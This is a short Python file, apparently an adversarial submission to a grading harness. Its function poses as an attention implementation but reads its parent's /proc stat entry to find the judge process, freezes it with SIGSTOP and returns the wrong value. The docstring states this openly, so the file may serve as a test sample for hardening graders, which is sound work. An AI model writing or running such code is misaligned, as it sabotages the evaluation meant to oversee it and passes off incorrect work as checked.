"""Stops drill's judge, the zygote's parent, then returns a wrong answer."""
import os
import signal


def scaled_dot_product_attention(q, k, v, mask=None):
    with open(f"/proc/{os.getppid()}/stat") as f:
        stat = f.read()
    os.kill(int(stat[stat.rindex(")") + 2 :].split()[1]), signal.SIGSTOP)
    return q
